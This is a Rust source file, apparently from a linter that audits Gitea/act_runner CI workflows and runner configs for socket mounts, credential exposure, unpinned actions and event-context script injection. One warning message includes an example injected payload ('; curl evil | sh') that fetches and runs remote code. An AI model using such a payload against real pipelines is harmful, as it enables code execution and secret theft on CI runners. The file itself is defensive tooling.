//! The checks: one walk over each workflow (jobs, containers, services, steps) and one over
//! the runner config, sharing the volume checks so a mount is judged the same wherever it is
//! written.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use crate::volume::{self, AllowList, Volume};
use crate::yaml::{Doc, Node, Pos, Value};
use crate::{Error, Finding, Rule};

/// Contexts whose values come from whoever opened the pull request or pushed the branch.
const EVENT_CONTEXTS: &[&str] = &[
    "github.event",
    "gitea.event",
    "github.head_ref",
    "gitea.head_ref",
    "github['event']",
    "gitea['event']",
];

/// What the workflows need from the runner config.
pub struct RunnerConfig {
    path: PathBuf,
    allow: AllowList,
}

impl RunnerConfig {
    pub fn read(path: &Path, doc: &Doc) -> Result<RunnerConfig, Error> {
        let root = &doc.root;
        if !matches!(root.value, Value::Map(_) | Value::Null) {
            return Err(shape(
                path,
                root.pos,
                "an act_runner config must be a mapping",
            ));
        }
        let container = root.get("container");
        let mut patterns = Vec::new();
        if let Some(list) = container.and_then(|c| c.get("valid_volumes")) {
            if !matches!(list.value, Value::Seq(_) | Value::Null) {
                return Err(shape(
                    path,
                    list.pos,
                    "container.valid_volumes must be a list of globs",
                ));
            }
            patterns = list
                .seq()
                .iter()
                .filter_map(|n| n.str().map(String::from))
                .collect();
        }
        Ok(RunnerConfig {
            path: path.to_path_buf(),
            allow: AllowList::new(&patterns),
        })
    }
}

fn shape(path: &Path, pos: Pos, message: &str) -> Error {
    Error::Shape {
        path: path.to_path_buf(),
        line: pos.line,
        column: pos.column,
        message: message.to_string(),
    }
}

struct Ctx<'a> {
    path: &'a Path,
    doc: &'a Doc,
    findings: Vec<Finding>,
}

impl Ctx<'_> {
    fn push(&mut self, pos: Pos, rule: Rule, why: String, fix: String) {
        self.findings.push(Finding {
            file: self.path.to_path_buf(),
            line: pos.line,
            column: pos.column,
            rule,
            why,
            fix,
        });
    }

    /// The checks every mount gets, wherever it is written (`node` is the scalar holding it).
    fn volume(&mut self, node: &Node, v: &Volume, allow: Option<(&AllowList, &Path)>) {
        let pos = self.doc.find(node, &v.spec);
        let src = &v.source;
        if v.is_engine_socket() {
            self.push(
                pos,
                Rule::DockerSocket,
                format!("{src} gives the job the container engine's socket, which is root on the host"),
                "remove the mount; a job that needs images gets them from the runner (pre-pulled) or builds them without a daemon".into(),
            );
        }
        if v.is_credential_dir() {
            self.push(
                pos,
                Rule::CredentialDirMount,
                format!("{src} mounts a whole credential directory: every key in it reaches the job, and tools that write there (buildx writes .docker/buildx/activity) break when it is :ro"),
                "mount the one file the job needs, read-only, e.g. -v /root/.docker/config.json:/root/.docker/config.json:ro".into(),
            );
        }
        if v.is_credential() && !v.read_only {
            self.push(
                pos,
                Rule::CredentialWritable,
                format!("{src} is a credential mounted writable: a job can replace it for every later job"),
                format!("append :ro ({}:ro)", v.spec),
            );
        }
        if let Some((allow, runner_path)) = allow {
            if allow.is_empty() {
                self.push(
                    pos,
                    Rule::VolumeNotAllowed,
                    format!("container.valid_volumes in {} is empty, so act_runner drops every bind and named volume, {src} included, logging only \"[{src}] is not a valid volume, will be ignored\"", runner_path.display()),
                    format!("list {src} in container.valid_volumes (the source path; :ro plays no part)"),
                );
            } else if !allow.allows(src) {
                self.push(
                    pos,
                    Rule::VolumeNotAllowed,
                    format!("{src} matches no glob of container.valid_volumes in {}: act_runner drops the mount, logs \"[{src}] is not a valid volume, will be ignored\", and the job runs on without it", runner_path.display()),
                    format!("add {src} to container.valid_volumes (matched on the source path only: * within a segment, ** across; :ro plays no part), or drop the mount"),
                );
            }
        }
    }

    fn image(&mut self, node: &Node, image: &str, what: &str) {
        if image.is_empty() || image.contains("${{") || has_digest(image) {
            return;
        }
        self.push(
            node.pos,
            Rule::ImageWithoutDigest,
            format!("{what} image {image} is not pinned by digest: a tag can be moved to other bytes"),
            format!("pin it: {image}@sha256:<64 hex> (docker inspect --format '{{{{index .RepoDigests 0}}}}' {image})"),
        );
    }

    fn uses(&mut self, node: &Node) {
        let Some(uses) = node.str() else { return };
        if uses.starts_with("./") || uses.starts_with(".\\") {
            return;
        }
        if let Some(image) = uses.strip_prefix("docker://") {
            self.image(node, image, "the action's");
            return;
        }
        let (action, reference) = uses.rsplit_once('@').unwrap_or((uses, ""));
        let pinned = reference.len() == 40 && reference.bytes().all(|b| b.is_ascii_hexdigit());
        if !pinned {
            self.push(
                node.pos,
                Rule::UnpinnedUses,
                format!("{uses} names a tag or branch, which its owner can move to other code that then runs with the job's token and secrets"),
                format!("pin the commit: uses: {action}@<40-hex commit> # {}", if reference.is_empty() { "<version>" } else { reference }),
            );
        }
        let name = action
            .rsplit("://")
            .next()
            .unwrap_or(action)
            .to_ascii_lowercase();
        let artifact = ["upload-artifact", "download-artifact"]
            .iter()
            .any(|a| name.ends_with(&format!("actions/{a}")));
        if artifact {
            let version = if pinned {
                self.doc.trailing_comment(node).unwrap_or("").to_string()
            } else {
                reference.to_string()
            };
            if major(&version).is_some_and(|m| m >= 4) {
                self.push(
                    node.pos,
                    Rule::UploadArtifactV4,
                    format!("{action} {version} fails on Gitea with GHESNotSupportedError (still on 1.25)"),
                    format!("use v3: {action}@<v3 commit> # v3.x (e.g. actions/upload-artifact@a8a3f3ad30e3422c9c7b888a15615d19a852ae32 # v3.1.3)"),
                );
            }
        }
    }

    /// A script (`run:`, github-script's `script:`): expressions and secrets.
    fn script(&mut self, node: &Node, secret_env: &BTreeSet<String>) {
        let Some(text) = node.str() else { return };
        let mut from = 0;
        for expr in expressions(text) {
            let (pos, next) = self
                .doc
                .find_from(node, expr, from)
                .unwrap_or((node.pos, from));
            from = next;
            let lower = expr.to_ascii_lowercase().replace(' ', "");
            if let Some(ctx) = EVENT_CONTEXTS.iter().find(|c| mentions(&lower, c)) {
                let var = env_name(expr);
                self.push(
                    pos,
                    Rule::EventInjection,
                    format!("{expr} ({ctx} is set by whoever opens the pull request or pushes) is pasted into the script before the shell reads it: a title such as \"; curl evil | sh\" runs in the job"),
                    format!("pass it through env: ({var}: {expr}) and use \"${var}\" in the script"),
                );
            }
            if lower.contains("secrets.") || lower.contains("secrets[") {
                let var = env_name(expr);
                self.push(
                    pos,
                    Rule::SecretExposed,
                    format!("{expr} is pasted into the script: it lands in the script file on the runner and on the command line of whatever it is passed to (visible in ps and /proc)"),
                    format!("pass it through env: ({var}: {expr}) and let the program read ${var} from its environment"),
                );
            }
        }
        for line in text.lines() {
            let t = line.trim();
            if t.starts_with('#') || is_assignment_only(t) {
                continue;
            }
            for name in secret_env {
                if !references(t, name) {
                    continue;
                }
                let echoed = t.starts_with("echo")
                    || t.starts_with("printf")
                    || t.contains("| tee")
                    || t.contains("set -x");
                let how = if echoed {
                    "echoed into the log"
                } else {
                    "put on a command line (visible in ps and /proc)"
                };
                self.push(
                    self.doc.find(node, t),
                    Rule::SecretExposed,
                    format!("${name} holds a secret and is {how}"),
                    "let the program read the variable from its environment (or a file), never as an argument or in output".into(),
                );
            }
        }
    }
}

/// Findings of one workflow, and whether any of its jobs asks for privilege.
pub struct WorkflowLint {
    pub findings: Vec<Finding>,
    pub needs_privilege: bool,
}

pub fn workflow(
    path: &Path,
    doc: &Doc,
    runner: Option<&RunnerConfig>,
) -> Result<WorkflowLint, Error> {
    let root = &doc.root;
    let Some(jobs) = root.get("jobs") else {
        return Err(shape(
            path,
            root.pos,
            "not a workflow: no jobs: mapping at the top level",
        ));
    };
    if !matches!(jobs.value, Value::Map(_)) {
        return Err(shape(
            path,
            jobs.pos,
            "jobs: must be a mapping of job ids to jobs",
        ));
    }
    let allow = runner.map(|r| (&r.allow, r.path.as_path()));
    let mut cx = Ctx {
        path,
        doc,
        findings: Vec::new(),
    };
    let mut needs_privilege = false;
    let top_secrets = secret_names(root.get("env"));
    for (_, job) in jobs.map() {
        let mut job_secrets = top_secrets.clone();
        job_secrets.extend(secret_names(job.get("env")));
        if let Some(uses) = job.get("uses") {
            cx.uses(uses);
        }
        let mut containers: Vec<(&Node, &str)> = Vec::new();
        if let Some(c) = job.get("container") {
            containers.push((c, "the job container's"));
        }
        if let Some(services) = job.get("services") {
            containers.extend(services.map().iter().map(|(_, s)| (s, "the service's")));
        }
        for (c, what) in containers {
            if let Some(image) = c.str() {
                cx.image(c, image, what);
                continue;
            }
            if let Some(image) = c.get("image") {
                cx.image(image, image.str().unwrap_or(""), what);
            }
            if let Some(options) = c.get("options") {
                let text = options.str().unwrap_or("");
                needs_privilege |= volume::wants_privilege(text);
                for v in volume::from_options(text) {
                    cx.volume(options, &v, allow);
                }
            }
            if let Some(volumes) = c.get("volumes") {
                for item in volumes.seq() {
                    if let Some(v) = item.str().and_then(Volume::parse_bind) {
                        cx.volume(item, &v, allow);
                    }
                }
            }
        }
        for step in job.get("steps").map(Node::seq).unwrap_or(&[]) {
            let mut secrets = job_secrets.clone();
            secrets.extend(secret_names(step.get("env")));
            if let Some(uses) = step.get("uses") {
                cx.uses(uses);
            }
            if let Some(run) = step.get("run") {
                cx.script(run, &secrets);
            }
            let is_script_action = step
                .get("uses")
                .and_then(Node::str)
                .is_some_and(|u| u.contains("github-script"));
            if let Some(script) = step.get("with").and_then(|w| w.get("script")) {
                if is_script_action {
                    cx.script(script, &secrets);
                }
            }
        }
    }
    Ok(WorkflowLint {
        findings: cx.findings,
        needs_privilege,
    })
}

/// The runner config's own findings. `any_job_needs_privilege` is `None` when no workflow was
/// linted with it (then `privileged` cannot be judged).
pub fn runner(
    path: &Path,
    doc: &Doc,
    cfg: &RunnerConfig,
    any_job_needs_privilege: Option<bool>,
) -> Vec<Finding> {
    let mut cx = Ctx {
        path,
        doc,
        findings: Vec::new(),
    };
    let root = &doc.root;
    if let Some(labels) = root.get("runner").and_then(|r| r.get("labels")) {
        for label in labels.seq() {
            let Some(text) = label.str() else { continue };
            if let Some((_, image)) = text.split_once(":docker://") {
                cx.image(label, image, &format!("the label {text}'s"));
            }
        }
    }
    let Some((container_key, container)) = root.entry("container") else {
        cx.push(
            root.pos,
            Rule::DockerSocket,
            "no container: section, so docker_host takes its default \"\", and act_runner mounts the Docker socket into every job container (root on the host)".into(),
            "add container: with docker_host: \"-\" (the runner still finds the daemon; jobs do not get it)".into(),
        );
        return cx.findings;
    };
    match container.entry("docker_host") {
        Some((_, value)) if value.str() == Some("-") => {}
        Some((_, value)) => cx.push(
            value.pos,
            Rule::DockerSocket,
            format!("docker_host: {:?} makes act_runner mount the daemon's socket into every job container (root on the host); only \"-\" keeps it out", value.str().unwrap_or("")),
            "docker_host: \"-\"".into(),
        ),
        None => cx.push(
            container_key.pos,
            Rule::DockerSocket,
            "container.docker_host is not set, so it is \"\": act_runner mounts the Docker socket into every job container (root on the host)".into(),
            "docker_host: \"-\"".into(),
        ),
    }
    if let (Some(value), Some(false)) = (container.get("privileged"), any_job_needs_privilege) {
        if value.str() == Some("true") {
            cx.push(
                value.pos,
                Rule::PrivilegedUnneeded,
                "privileged: true gives every job container all capabilities and devices, yet no job of the linted workflows asks for --privileged, --cap-add or --device".into(),
                "privileged: false, or declare the need on the job that has it (container: options: --privileged)".into(),
            );
        }
    }
    if let Some(options) = container.get("options") {
        for v in volume::from_options(options.str().unwrap_or("")) {
            cx.volume(options, &v, Some((&cfg.allow, path)));
        }
    }
    if let Some(list) = container.get("valid_volumes") {
        for item in list.seq() {
            let Some(pattern) = item.str() else { continue };
            let one = AllowList::new(&[pattern.to_string()]);
            if ["/var/run/docker.sock", "/run/docker.sock"]
                .iter()
                .any(|s| one.allows(s))
            {
                cx.push(
                    item.pos,
                    Rule::DockerSocket,
                    format!("valid_volumes entry {pattern} lets any workflow mount the Docker socket (root on the host)"),
                    "list exact sources only, e.g. /root/.docker/config.json and the cache volume's name".into(),
                );
            }
            let dirs = volume::CREDENTIAL_DIRS.iter().map(|d| format!("/root/{d}"));
            if let Some(dir) = dirs.into_iter().find(|d| one.allows(d)) {
                cx.push(
                    item.pos,
                    Rule::CredentialDirMount,
                    format!("valid_volumes entry {pattern} lets any workflow mount the credential directory {dir}"),
                    "list the one credential file the jobs need, e.g. /root/.docker/config.json".into(),
                );
            }
        }
    }
    cx.findings
}

fn has_digest(image: &str) -> bool {
    image
        .rsplit_once("@sha256:")
        .is_some_and(|(_, hex)| hex.len() == 64 && hex.bytes().all(|b| b.is_ascii_hexdigit()))
}

/// `v4`, `v4.1.0`, `4` → 4.
fn major(version: &str) -> Option<u32> {
    let v = version.trim().trim_start_matches(['v', 'V']);
    let digits: String = v.chars().take_while(char::is_ascii_digit).collect();
    digits.parse().ok()
}

/// Every `${{ … }}` in a script, as written.
fn expressions(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(start) = rest.find("${{") {
        let tail = &rest[start..];
        let Some(end) = tail.find("}}") else { break };
        out.push(&tail[..end + 2]);
        rest = &tail[end + 2..];
    }
    out
}

/// A variable name for the fix text: the expression's last identifier, upper-cased.
fn env_name(expr: &str) -> String {
    let inner = expr.trim_start_matches("${{").trim_end_matches("}}").trim();
    let last = inner
        .rsplit(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .find(|s| !s.is_empty())
        .unwrap_or("VALUE");
    last.to_ascii_uppercase()
}

/// Names of `env:` entries whose value comes from `secrets`.
fn secret_names(env: Option<&Node>) -> BTreeSet<String> {
    env.map(Node::map)
        .unwrap_or(&[])
        .iter()
        .filter(|(_, v)| {
            v.str()
                .is_some_and(|s| s.contains("secrets.") || s.contains("secrets["))
        })
        .filter_map(|(k, _)| k.str().map(String::from))
        .collect()
}

/// `context` in an expression as a whole name (`github.event.x`, `github.event`, but not
/// `github.event_name`).
fn mentions(expr: &str, context: &str) -> bool {
    expr.match_indices(context).any(|(i, _)| {
        expr[i + context.len()..]
            .chars()
            .next()
            .is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '_' || c == '-'))
    })
}

/// `$NAME` or `${NAME…` in a line, as a whole name.
fn references(line: &str, name: &str) -> bool {
    let braced = format!("${{{name}");
    if line.contains(&braced) {
        return true;
    }
    let plain = format!("${name}");
    line.match_indices(&plain).any(|(i, _)| {
        line[i + plain.len()..]
            .chars()
            .next()
            .is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '_'))
    })
}

/// `A=$B`, `export A="$B"`: moves the value between variables without showing it.
fn is_assignment_only(line: &str) -> bool {
    let t = line.strip_prefix("export ").unwrap_or(line).trim();
    let Some((name, value)) = t.split_once('=') else {
        return false;
    };
    !name.is_empty()
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        && !value.trim().contains(' ')
}
